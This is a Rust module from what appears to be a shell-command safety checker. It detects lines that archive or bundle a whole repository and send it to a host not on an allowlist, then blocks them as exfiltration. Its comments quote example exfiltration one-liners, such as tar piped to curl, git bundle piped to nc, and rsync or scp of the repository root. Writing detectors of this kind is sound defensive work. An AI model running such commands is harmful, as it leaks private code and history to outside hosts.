//! The whole repository sent to a host not on the allowlist: an archive or bundle of it
//! piped into a network program (`tar cz . | curl -T - https://host`, `git bundle create -
//! --all | nc host 9000`), written to a file a later command of the line sends (`tar czf
//! r.tgz . && curl -F f=@r.tgz …`), or copied by `rsync`/`scp` straight from the repository
//! root. That is exfiltration: blocked. A push to such a host is [`crate::classify::push`].

use crate::classify::ctx::Ctx;
use crate::classify::known_programs::{self as c, is};
use crate::classify::roads::Program;
use crate::classify::simple_command::Cmd;
use crate::classify::verdict::{host_of, Verdict};
use crate::paths::{is_within, normalize};
use crate::shell::{ParsedCommand, ShellScript};

/// Where an archive of the repository goes.
#[derive(PartialEq)]
enum Out {
    Stdout,
    File(String),
}

/// The block when the line sends the whole repository to a host not on the allowlist.
pub(crate) fn repository_upload(
    script: &ShellScript,
    programs: &[Program],
    ctx: &Ctx<'_>,
) -> Option<Verdict> {
    let commands = &script.commands;
    let cmd_of = |i: usize| -> Option<(&ParsedCommand, Cmd<'_>)> {
        let parsed = commands.get(i)?;
        let (program, args) = programs.get(i)?;
        Some((
            parsed,
            Cmd {
                program,
                args,
                cwd: &parsed.cwd,
                network_program: is(c::NETWORK, program),
                privileged: parsed.privileged,
            },
        ))
    };
    let archives: Vec<(usize, Out)> = (0..commands.len())
        .filter_map(|i| {
            let (parsed, cmd) = cmd_of(i)?;
            let out = archive_of_repository(&cmd, ctx)?;
            // `tar c . > r.tar`: the archive is the file the output is redirected to.
            let out = match (out, parsed.redirects.iter().find(|r| r.write)) {
                (Out::Stdout, Some(r)) if !r.path.starts_with("/dev/") => Out::File(r.path.clone()),
                (out, _) => out,
            };
            Some((i, out))
        })
        .collect();
    for j in 0..commands.len() {
        let Some((parsed, sink)) = cmd_of(j) else {
            continue;
        };
        if !sink.network_program {
            continue;
        }
        let targets = crate::classify::cloud::targets(&sink);
        if !targets.is_empty() && targets.iter().all(|t| ctx.allowlisted(t)) {
            continue;
        }
        let to = targets
            .first()
            .map_or_else(|| format!("`{}`", sink.program), |t| host_of(t));
        if let Some(source) = copies_repository(&sink, ctx) {
            return Some(block(&format!(
                "`{}` copies {source} to {to}",
                sink.program
            )));
        }
        let sent = archives.iter().any(|(i, out)| {
            let Some(archive) = commands.get(*i) else {
                return false;
            };
            match out {
                Out::Stdout => {
                    archive.pipeline == parsed.pipeline
                        && archive.stage < parsed.stage
                        && reads_stdin(&sink)
                }
                Out::File(file) => *i < j && names_file(&sink, parsed, file, ctx),
            }
        });
        if sent {
            return Some(block(&format!(
                "an archive of the repository goes to {to} by `{}`",
                sink.program
            )));
        }
    }
    None
}

pub(crate) fn block(how: &str) -> Verdict {
    Verdict::block(
        "block.exfiltration",
        format!("uploads the whole repository to a host not on the allowlist: {how}"),
    )
}

/// Whether `word` (in `cmd`'s directory) is the repository: its root, a directory above it,
/// its `.git`, or all of its entries (`*`).
fn is_repository(word: &str, cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> bool {
    if word.contains("://") {
        return false;
    }
    let path = normalize(word, cmd.cwd, ctx.home);
    let base = path
        .strip_suffix("/*")
        .or_else(|| path.strip_suffix("/.git"))
        .unwrap_or(&path);
    let base = if base.is_empty() { "/" } else { base };
    is_within(&ctx.root, base)
}

/// The output of an archiver or bundler whose input is the whole repository.
fn archive_of_repository(cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> Option<Out> {
    match cmd.program {
        "tar" | "bsdtar" | "gtar" => tar(cmd, ctx),
        "zip" => {
            let words = positionals(cmd.args, &["-P", "--password", "-b", "-n", "-t", "-tt"]);
            let (out, sources) = words.split_first()?;
            sources
                .iter()
                .any(|s| is_repository(s, cmd, ctx))
                .then(|| output(out, cmd, ctx))
        }
        "7z" | "7za" | "7zz" => {
            let words = positionals(cmd.args, &[]);
            let (verb, rest) = words.split_first()?;
            let (out, sources) = rest.split_first()?;
            (*verb == "a" && sources.iter().any(|s| is_repository(s, cmd, ctx)))
                .then(|| output(out, cmd, ctx))
        }
        "git" => {
            let line = crate::classify::git::split_git(cmd.args);
            let words = positionals(line.rest, &["-o", "--output", "--format", "--prefix"]);
            match line.sub {
                "bundle" if words.first() == Some(&"create") => {
                    words.get(1).map(|out| output(out, cmd, ctx))
                }
                // `git archive HEAD` is every committed file; with paths, only those.
                "archive" if words.len() <= 1 => Some(
                    option_value(line.rest, &["-o", "--output"])
                        .map_or(Out::Stdout, |f| output(f, cmd, ctx)),
                ),
                _ => None,
            }
        }
        _ => None,
    }
}

fn output(word: &str, cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> Out {
    if word == "-" {
        Out::Stdout
    } else {
        Out::File(normalize(word, cmd.cwd, ctx.home))
    }
}

/// `tar` creating an archive of the repository: `tar czf F .`, `tar -czf - .`, `tar
/// --create --file=F -C /repo .`.
fn tar(cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> Option<Out> {
    let mut create = false;
    let mut file: Option<&str> = None;
    let mut dir: Option<&str> = None;
    let mut sources = Vec::new();
    let mut pending: Vec<char> = Vec::new();
    for (n, word) in cmd.args.iter().map(String::as_str).enumerate() {
        if let Some(letter) = pending.pop() {
            match letter {
                'f' => file = Some(word),
                'C' => dir = Some(word),
                _ => {}
            }
            continue;
        }
        if let Some(long) = word.strip_prefix("--") {
            let (name, value) = long.split_once('=').unwrap_or((long, ""));
            match name {
                "create" => create = true,
                "file" if value.is_empty() => pending.push('f'),
                "file" => file = Some(value),
                "directory" if value.is_empty() => pending.push('C'),
                "directory" => dir = Some(value),
                _ => {}
            }
            continue;
        }
        // The first word may be a bundle of letters without a dash (`tar czf out.tgz .`).
        let letters = match word.strip_prefix('-') {
            Some(l) => Some(l),
            None if n == 0 => Some(word),
            None => None,
        };
        let Some(letters) = letters else {
            sources.push(word);
            continue;
        };
        let mut takes = Vec::new();
        for (at, letter) in letters.char_indices() {
            create |= letter == 'c';
            if matches!(
                letter,
                'f' | 'C' | 'T' | 'X' | 'b' | 'V' | 'g' | 'N' | 'L' | 'K'
            ) {
                let inline = letters.get(at + 1..).unwrap_or_default();
                if word.starts_with('-') && !inline.is_empty() {
                    match letter {
                        'f' => file = Some(inline),
                        'C' => dir = Some(inline),
                        _ => {}
                    }
                    break;
                }
                takes.push(letter);
            }
        }
        // Values follow in the order their letters came.
        takes.reverse();
        pending = takes;
    }
    if !create {
        return None;
    }
    let base = dir.map_or_else(|| cmd.cwd.to_owned(), |d| normalize(d, cmd.cwd, ctx.home));
    let in_base = Cmd { cwd: &base, ..*cmd };
    sources
        .iter()
        .any(|s| is_repository(s, &in_base, ctx))
        .then(|| match file {
            Some(f) => output(f, cmd, ctx),
            None => Out::Stdout,
        })
}

/// Positionals with the values of `with_value` options taken out.
pub(crate) fn positionals<'a>(args: &'a [String], with_value: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut words = args.iter().map(String::as_str);
    while let Some(word) = words.next() {
        if with_value.contains(&word) {
            words.next();
        } else if !word.starts_with('-') || word == "-" {
            out.push(word);
        }
    }
    out
}

pub(crate) fn option_value<'a>(args: &'a [String], names: &[&str]) -> Option<&'a str> {
    let mut words = args.iter().map(String::as_str);
    while let Some(word) = words.next() {
        if names.contains(&word) {
            return words.next();
        }
        for name in names.iter().filter(|n| n.starts_with("--")) {
            if let Some(v) = word.strip_prefix(name).and_then(|r| r.strip_prefix('=')) {
                return Some(v);
            }
        }
        if let Some(v) = word
            .strip_prefix("-o")
            .filter(|v| !v.is_empty() && names.contains(&"-o"))
        {
            return Some(v);
        }
    }
    None
}

/// Whether a network program sends what it reads on stdin: an HTTP client told to (`-T -`,
/// `--data-binary @-`, `-F f=@-`), a raw socket or remote shell always.
fn reads_stdin(cmd: &Cmd<'_>) -> bool {
    match cmd.program {
        "curl" | "wget" | "aria2c" => cmd.args.iter().any(|a| {
            a == "-" || a.ends_with("@-") || a.ends_with("=-") || a.contains("/dev/stdin")
        }),
        "scp" | "rsync" | "sftp" | "ftp" => false,
        _ => true,
    }
}

/// Whether the sink names `file` (`-T file`, `@file`, `f=@file`, a positional, `< file`).
fn names_file(sink: &Cmd<'_>, parsed: &ParsedCommand, file: &str, ctx: &Ctx<'_>) -> bool {
    let named = sink.args.iter().any(|arg| {
        crate::classify::simple_command::path_candidates(arg)
            .iter()
            .any(|cand| normalize(cand.trim_start_matches("<"), sink.cwd, ctx.home) == file)
    });
    named || parsed.redirects.iter().any(|r| !r.write && r.path == file)
}

/// `rsync -a . host:dir`, `scp -r . host:`: the repository as a source, a remote target.
fn copies_repository(cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> Option<String> {
    const VALUES: &[&str] = &[
        "-e",
        "--rsh",
        "-f",
        "--filter",
        "--exclude",
        "--include",
        "--exclude-from",
        "--include-from",
        "--files-from",
        "--port",
        "-T",
        "--temp-dir",
        "--password-file",
        "-B",
        "--block-size",
        "--chmod",
        "--chown",
        "--timeout",
        "--bwlimit",
        "-i",
        "-P",
        "-o",
        "-F",
        "-c",
        "-l",
        "-S",
        "-J",
    ];
    if !matches!(cmd.program, "rsync" | "scp") {
        return None;
    }
    let words = positionals(cmd.args, VALUES);
    let (dest, sources) = words.split_last()?;
    let remote = |w: &str| {
        w.contains("://")
            || w.split_once(':')
                .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
    };
    if !remote(dest) {
        return None;
    }
    sources
        .iter()
        .find(|s| !remote(s) && is_repository(s, cmd, ctx))
        .map(|s| {
            if s.ends_with(".git") {
                "the repository's history (.git)".to_owned()
            } else {
                format!("the repository ({s})")
            }
        })
}
